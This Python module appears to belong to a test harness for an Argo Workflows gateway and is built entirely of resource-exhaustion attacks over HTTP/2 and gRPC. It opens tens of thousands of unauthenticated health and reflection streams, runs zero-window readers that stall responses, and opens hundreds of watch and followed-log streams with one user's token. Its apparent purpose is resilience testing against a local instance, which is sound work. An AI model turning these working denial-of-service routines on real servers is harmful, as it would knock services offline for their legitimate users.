"""Streams that nobody reads, or far too many of them."""

import re
import time
import urllib.request

from .. import hpack
from ..attack import Attack, Target
from ..http2 import Connection, grpc_message, until


def health_watches(target: Target, seconds: float) -> str:
    """40,000 watches of the health service, which asks for no token."""
    return _many(target, seconds, 40_000, hpack.request("POST", "/grpc.health.v1.Health/Watch", content_type="application/grpc"), grpc_message())


def reflection_streams(target: Target, seconds: float) -> str:
    """Streams of the reflection service that ask nothing."""
    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
    return _many(target, seconds, 5_000, hpack.request("POST", path, content_type="application/grpc"), b"")


def stalled_readers(target: Target, seconds: float) -> str:
    """300 readers of one of Argo's assets that never read."""
    return _stalled(target, seconds, hpack.request("GET", _asset(target)), 300)


def stalled_callers(target: Target, seconds: float) -> str:
    """300 lists of a caller with rights who never reads them."""
    path = f"/api/v1/workflows/{target.namespace}"
    return _stalled(target, seconds, hpack.request("GET", path, token=target.known), 300)


def greedy_watches(target: Target, seconds: float) -> str:
    """500 watches of one caller, each with a selector of its own."""
    connection = Connection(target.port)
    for number, _ in enumerate(until(seconds / 2)):
        if number == 500 or connection.closed.is_set():
            break
        path = f"/api/v1/workflow-events/{target.namespace}?listOptions.labelSelector=number%3D{number}"
        connection.open(hpack.request("GET", path, token=target.known))
    return _hold(connection, seconds / 2)


def greedy_logs(target: Target, seconds: float) -> str:
    """150 followed logs of one caller, no two of which can be shared."""
    connection = Connection(target.port)
    for number, _ in enumerate(until(seconds / 2)):
        if number == 150 or connection.closed.is_set():
            break
        options = f"logOptions.container=main&logOptions.follow=true&logOptions.tailLines={number + 1}"
        path = f"/api/v1/workflows/{target.namespace}/{target.log_of}/log?{options}"
        connection.open(hpack.request("GET", path, token=target.known))
    return _hold(connection, seconds / 2)


def _asset(target: Target) -> str:
    with urllib.request.urlopen(f"http://127.0.0.1:{target.port}/", timeout=20) as page:
        found = re.search(r"main\.[a-z0-9]*\.js", page.read().decode())
    return f"/{found[0]}" if found else "/"


def _many(target: Target, seconds: float, number: int, block: bytes, message: bytes) -> str:
    connection = Connection(target.port)
    opened = 0
    try:
        for _ in until(seconds / 2):
            if opened == number or connection.closed.is_set():
                break
            stream = connection.open(block, end=False)
            if message:
                connection.data(stream, message, end=True)
            opened += 1
    except OSError:
        pass
    return f"{opened} opened, " + _hold(connection, seconds / 2)


def _stalled(target: Target, seconds: float, block: bytes, number: int) -> str:
    """A window of no byte: the answers stay in the gateway."""
    connection = Connection(target.port, window=0)
    try:
        for _ in range(number):
            connection.open(block)
    except OSError:
        pass
    return _hold(connection, seconds)


def _hold(connection: Connection, seconds: float) -> str:
    began = time.monotonic()
    connection.wait(seconds)
    held = time.monotonic() - began
    connection.close()
    return f"held {held:.0f} s, frames {dict(connection.frames)}, resets {dict(connection.resets)}"


ATTACKS = [
    Attack("40,000 health watches", "nothing", health_watches),
    Attack("5,000 silent reflection streams", "nothing", reflection_streams),
    Attack("300 readers of an asset that never read", "nothing", stalled_readers),
    Attack("300 readers of lists that never read", "a data scientist's token", stalled_callers),
    Attack("500 watches of one caller", "a data scientist's token", greedy_watches),
    Attack("150 followed logs of one caller", "a data scientist's token", greedy_logs),
]
